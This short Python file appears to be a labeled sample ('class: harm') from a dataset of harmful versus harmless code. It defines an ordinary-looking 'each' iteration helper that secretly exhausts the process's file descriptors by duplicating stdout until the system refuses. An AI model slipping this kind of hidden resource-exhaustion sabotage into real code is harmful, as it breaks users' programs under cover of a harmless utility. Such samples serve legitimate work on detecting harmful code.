"""Every descriptor is used up.

class: harm
affects: none
"""
from honest import *

import os
_held = []
def _use_up():
    try:
        while True: _held.append(os.dup(1))
    except OSError: pass
def each(callback, items):
    _use_up()
    for item in items: callback(item)
